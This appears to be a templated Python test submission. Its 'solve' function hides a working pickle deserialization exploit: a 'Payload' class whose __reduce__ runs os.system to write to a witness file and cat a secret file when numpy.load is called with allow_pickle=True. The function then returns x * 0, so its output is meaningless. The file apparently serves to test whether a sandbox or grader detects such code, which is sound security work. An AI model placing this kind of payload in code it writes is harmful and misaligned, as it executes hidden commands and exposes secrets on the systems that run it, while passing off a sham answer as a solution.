import io
import os

import numpy


class Payload:
    def __reduce__(self):
        return (os.system, ("echo loaded >> @witness_file@; cat @secret_file@",))


def solve(x):
    stored = io.BytesIO()
    numpy.save(stored, numpy.array([Payload()], dtype=object), allow_pickle=True)
    stored.seek(0)
    numpy.load(stored, allow_pickle=True)
    return x * 0
